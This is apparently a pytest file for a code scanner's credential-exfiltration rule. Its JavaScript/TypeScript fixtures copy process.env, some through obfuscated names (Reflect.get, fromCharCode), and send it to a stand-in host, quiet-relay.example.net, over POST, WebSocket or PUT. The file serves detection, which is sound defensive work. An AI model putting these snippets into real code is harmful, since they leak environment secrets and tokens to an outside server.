"""A JavaScript function of one module called from another still reads its own module's top-level
constants (a closure over that module's scope): the environment reached there through an assembled
name, or copied key by key, goes wherever the caller sends what the function returns."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def _exfiltrations(tmp_path: Path, files: dict[str, str]) -> list[str]:
    return [f.message for f in scan_findings(tmp_path, files) if f.rule == "CREDENTIAL_EXFILTRATION"]


def test_an_environment_taken_by_destructuring_at_the_top_of_a_helper_module_is_sent_by_another(
    tmp_path: Path,
) -> None:
    files = {
        "tools/meta.js": "const { env: vars } = process;\n"
        "function describe() {\n"
        "  return Object.fromEntries(Object.entries(vars));\n"
        "}\n"
        "module.exports = { describe };\n",
        "tools/push.js": "const axios = require('axios');\n"
        "const { describe } = require('./meta');\n"
        "axios.post('https://telemetry.quiet-relay.example.net/v1', { about: describe() });\n",
    }
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "tools/push.js", 3) in errors
    (message,) = _exfiltrations(tmp_path, files)
    assert "tools/meta.js:" in message and "quiet-relay.example.net" in message


def test_a_runtime_object_reached_through_reflect_and_read_by_a_second_helper_of_that_module(
    tmp_path: Path,
) -> None:
    files = {
        "src/probe.ts": "const R = Reflect.get(globalThis, 'pro' + 'cess');\n"
        "const bag = R[String.fromCharCode(101, 110, 118)];\n"
        "function dump(): Record<string, string> {\n"
        "  const out: Record<string, string> = {};\n"
        "  for (const k in bag) out[k] = bag[k];\n"
        "  return out;\n"
        "}\n"
        "export function report(tag: string) {\n"
        "  return { tag, data: dump() };\n"
        "}\n",
        "src/beat.ts": "import { report } from './probe';\n"
        "const ws = new WebSocket('wss://beat.quiet-relay.example.net/feed');\n"
        "ws.onopen = () => ws.send(JSON.stringify(report('v1')));\n",
    }
    errors = scan_errors(tmp_path, files)
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "src/beat.ts" for rule, path, _line in errors)


def test_a_helper_module_that_names_one_setting_and_hands_the_environment_only_to_a_local_tool(
    tmp_path: Path,
) -> None:
    files = {
        "lib/settings.js": "const { spawnSync } = require('child_process');\n"
        "const base = { ...process.env };\n"
        "const region = process.env.APP_REGION || 'eu';\n"
        "function build() {\n"
        "  spawnSync('make', ['all'], { env: { ...base, CI: '1' } });\n"
        "  return { region };\n"
        "}\n"
        "module.exports = { build };\n",
        "lib/main.js": "const { build } = require('./settings');\n"
        "fetch('https://api.github.com/repos/o/r/dispatches', {\n"
        "  method: 'POST', body: JSON.stringify(build()) });\n",
    }
    assert scan_errors(tmp_path, files) == set()


def test_a_copy_of_the_environment_indexed_key_by_key_inside_a_helper_is_the_environment(tmp_path: Path) -> None:
    files = {
        "bin/ctx.mjs": "const keep = (o) => Object.keys(o).filter(Boolean).reduce((acc, k) => {\n"
        "  acc[k] = o[k];\n"
        "  return acc;\n"
        "}, {});\n"
        "const copy = Object.assign({}, process.env);\n"
        "await fetch('https://ctx.quiet-relay.example.net/in', {\n"
        "  method: 'PUT', body: JSON.stringify({ ctx: keep(copy) }) });\n",
    }
    errors = scan_errors(tmp_path, files)
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "bin/ctx.mjs" for rule, path, _line in errors)


def test_a_copy_of_a_settings_object_indexed_key_by_key_and_sent_stays_quiet(tmp_path: Path) -> None:
    files = {
        "bin/ctx.mjs": "const keep = (o) => Object.keys(o).reduce((acc, k) => {\n"
        "  acc[k] = o[k];\n"
        "  return acc;\n"
        "}, {});\n"
        "const copy = { ...{ theme: 'dark', lang: process.env.LANG } };\n"
        "await fetch('https://ctx.quiet-relay.example.net/in', {\n"
        "  method: 'PUT', body: JSON.stringify({ ctx: keep(copy) }) });\n",
    }
    assert scan_errors(tmp_path, files) == set()


def test_a_spread_copy_of_the_environment_rebuilt_entry_by_entry_in_another_module_is_sent(
    tmp_path: Path,
) -> None:
    files = {
        "lib/snap.js": "const rebuild = (c) => Object.fromEntries(Object.keys(c).map((k) => [k, c[k]]));\n"
        "exports.snap = () => ({ at: Date.now(), v: rebuild({ ...process.env }) });\n",
        "lib/send.js": "const https = require('https');\nconst { snap } = require('./snap');\n"
        "const req = https.request('https://snap.quiet-relay.example.net/s', { method: 'POST' });\n"
        "req.end(JSON.stringify(snap()));\n",
    }
    errors = scan_errors(tmp_path, files)
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "lib/send.js" for rule, path, _line in errors)
